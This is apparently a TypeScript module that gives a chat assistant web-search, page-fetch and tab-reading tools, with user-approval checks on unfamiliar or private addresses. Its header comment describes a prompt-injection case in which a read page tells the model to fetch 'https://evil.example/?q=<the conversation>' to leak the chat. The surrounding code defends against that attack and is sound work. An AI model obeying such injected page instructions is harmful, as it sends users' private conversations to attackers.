/**
 * Gloss's own tools as a `ToolSource`, one per answer while its chat's "Search the web" is on:
 * `web_search` (the engine chosen in Settings → Web), `fetch_url` (a page's readable text) and
 * `read_tab` (the text of the page open beside the chat).
 * What they bring back is the web's: the loop fences it as untrusted data like any tool result.
 *
 * `fetch_url` runs without asking only for an address the user wrote or added in the chat
 * (`given-urls.ts`) or one this answer's searches found. Any other address asks first and
 * shows it whole: a page the model read may tell it to fetch `https://evil.example/?q=<the
 * conversation>`, and that request is the leak. An address on this computer or a private
 * network asks too (the user's Allow is what lets the reader go there), and so does a site
 * Gloss has no access to yet: the Allow click is the gesture the browser needs to grant it.
 *
 * `read_tab` reads the tab open beside the chat, asking first for any tab the user did not give
 * (`tab-tool.ts`).
 */
import { t } from '../../shared/i18n';
import { originPattern } from '../../shared/settings';
import { glossPolicy, type GlossTool, type ToolPolicy } from '../../shared/tools/tool-settings';
import { privateAddress } from '../../shared/web/private-address';
import type { AskFirst, OfferedTool, ToolOutcome, ToolSource } from '../tools/tool-source';
import { addressKey } from './given-urls';
import { cutText } from './page-body';
import type { PageReading } from './read-page';
import { abortable } from './read-clock';
import { READ_TAB_SPEC, TabTool, type TabDeps } from './tab-tool';
import { WebSources } from './web-sources';
import type { Searched } from './web-search';

/** The most of one page's text sent to the model (about 6,000 tokens). */
export const PAGE_CHARS = 24_000;

export interface GlossToolsDeps {
  policies: Partial<Record<GlossTool, ToolPolicy>>;
  /** Addresses the user gave in this chat (`givenAddresses`). */
  given: ReadonlySet<string>;
  search: (query: string, signal: AbortSignal) => Promise<Searched>;
  read: (
    url: string,
    options: { signal: AbortSignal; maxChars: number; allowedPrivate?: (origin: string) => boolean },
  ) => Promise<PageReading>;
  /** Whether the worker may read `pattern` (`https://host/*`) now. */
  hasAccess: (pattern: string) => Promise<boolean>;
  /** Gives back site access no saved provider, server or engine needs (a page's, once read). */
  giveBack?: () => Promise<void>;
  /** The tab beside the chat, for `read_tab` (none: it says there is no tab to read). */
  tab?: TabDeps;
}

const SPECS: Record<GlossTool, Pick<OfferedTool, 'description' | 'parameters'>> = {
  web_search: {
    description:
      'Search the web. Returns numbered results (title, address, snippet). Cite what you use by its number, like [1].',
    parameters: {
      type: 'object',
      properties: { query: { type: 'string', description: 'What to search for, in a few words.' } },
      required: ['query'],
    },
  },
  fetch_url: {
    description:
      "Read a web page or PDF at an http(s) address and return its readable text with its source number. Use it on search results' addresses.",
    parameters: {
      type: 'object',
      properties: { url: { type: 'string', description: 'The full http(s) address.' } },
      required: ['url'],
    },
  },
  read_tab: READ_TAB_SPEC,
};

export class GlossTools implements ToolSource {
  /** Every search result and page read in this answer, numbered for citing. */
  readonly sources = new WebSources();
  /** Private addresses the user allowed on a call that asked (`asksFirst`). */
  private readonly allowedPrivate = new Set<string>();
  /** Sites whose access a call asked for: given back once their page is read. */
  private readonly lent = new Set<string>();

  /** `read_tab`'s rules: which tab, and when it asks (`tab-tool.ts`). */
  private readonly tab: TabTool;

  constructor(private readonly deps: GlossToolsDeps) {
    this.tab = new TabTool(deps.tab, deps.given, (pattern) => this.lent.add(pattern));
  }

  offered(): Promise<OfferedTool[]> {
    return Promise.resolve(
      (Object.keys(SPECS) as GlossTool[]).map((tool) => ({
        source: 'Gloss',
        tool,
        ...SPECS[tool],
        policy: glossPolicy(this.deps.policies, tool),
      })),
    );
  }

  async asksFirst(tool: OfferedTool, args: Record<string, unknown>): Promise<AskFirst | undefined> {
    if (tool.tool === 'read_tab') return this.tab.asksFirst();
    if (tool.tool !== 'fetch_url' || typeof args.url !== 'string') return undefined;
    const key = addressKey(args.url);
    const pattern = originPattern(args.url);
    if (!key || !pattern) return undefined; // not http(s): the call says so, nothing is fetched
    const given = this.deps.given.has(key);
    const access = (await this.deps.hasAccess(pattern).catch(() => false)) ? undefined : pattern;
    if (access) this.lent.add(access);
    const host = new URL(key).host;
    const ask = (because: string) => ({
      because: access ? `${because} ${t('webAsksAlsoAccess', host)}` : because,
      ...(access ? { access } : {}),
    });
    if (privateAddress(key) !== undefined && !given) {
      this.allowedPrivate.add(new URL(key).origin);
      return ask(t('webAsksPrivate', key));
    }
    if (!given && !this.sources.found(key)) return ask(t('webAsksAddress', key));
    return access ? { because: t('webAsksAccess', host), access } : undefined;
  }

  async call(tool: OfferedTool, args: Record<string, unknown>, signal: AbortSignal, timeoutMs: number) {
    const within = AbortSignal.any([signal, AbortSignal.timeout(timeoutMs)]);
    if (tool.tool === 'web_search') return this.search(args, within);
    if (tool.tool === 'fetch_url') return this.fetch(args, within);
    if (tool.tool === 'read_tab') return this.readTab(within);
    return { isError: true, text: t('stepUnknownTool', tool.tool) };
  }

  private async search(args: Record<string, unknown>, signal: AbortSignal): Promise<ToolOutcome> {
    const query = typeof args.query === 'string' ? args.query.trim() : '';
    if (!query) return { isError: true, text: t('webNoQuery') };
    const found = await this.deps.search(query, signal);
    if ('problem' in found) return { isError: true, text: found.problem };
    return { isError: false, ...this.sources.addResults(query, found.results) };
  }

  private fetch(args: Record<string, unknown>, signal: AbortSignal): Promise<ToolOutcome> {
    return this.read(typeof args.url === 'string' ? args.url : '', signal);
  }

  /**
   * Reads the tab beside the chat with the page reader (a PDF in the browser's viewer with the
   * web reader, by its address), its text cut and numbered as `fetch_url`'s pages are.
   */
  private async readTab(signal: AbortSignal): Promise<ToolOutcome> {
    const tab = await this.tab.target();
    if ('problem' in tab) {
      // Access lent for the tab the user allowed goes back though another tab is there now.
      await this.giveBack(this.tab.askedUrl ?? '');
      return { isError: true, text: tab.problem };
    }
    const read = await abortable(this.tab.read(tab), signal).catch(() => ({ problem: t('readStopped', tab.url) }));
    // The tab is the user's: its PDF is read wherever it is, as the page of any tab is.
    if ('pdf' in read) return this.read(tab.url, signal, PAGE_CHARS, true);
    await this.giveBack(tab.url);
    if ('problem' in read) return { isError: true, text: read.problem };
    const { text, cut } = cutText(read.page.text, PAGE_CHARS);
    return {
      isError: false,
      ...this.sources.addPage({ ...read.page, text, ...(cut && { cut }) }),
      ...(cut && { cut }),
    };
  }

  /** Access asked for one page is lent for its read, not kept (the next read asks again). */
  private async giveBack(url: string): Promise<void> {
    const pattern = originPattern(url);
    if (pattern && this.lent.delete(pattern)) await this.deps.giveBack?.().catch(console.error);
  }

  /**
   * Reads one page, its text cut to `maxChars` (web mode reads several into one budget);
   * `usersTab`: the address of the tab the user gave, which counts as given.
   */
  async read(raw: string, signal: AbortSignal, maxChars = PAGE_CHARS, usersTab = false): Promise<ToolOutcome> {
    const key = addressKey(raw);
    if (!key) return { isError: true, text: t('webBadAddress', raw.slice(0, 200)) };
    // The user's own address (on a private network, or whose name leads to one) opens its own
    // origin only: a redirect elsewhere is refused.
    const own = usersTab || this.deps.given.has(key) ? new URL(key).origin : undefined;
    const read = await this.deps.read(key, {
      signal,
      maxChars,
      allowedPrivate: (origin) => origin === own || this.allowedPrivate.has(origin),
    });
    await this.giveBack(key);
    if ('problem' in read) return { isError: true, text: read.problem };
    return { isError: false, ...this.sources.addPage(read.page), ...(read.page.cut ? { cut: read.page.cut } : {}) };
  }
}
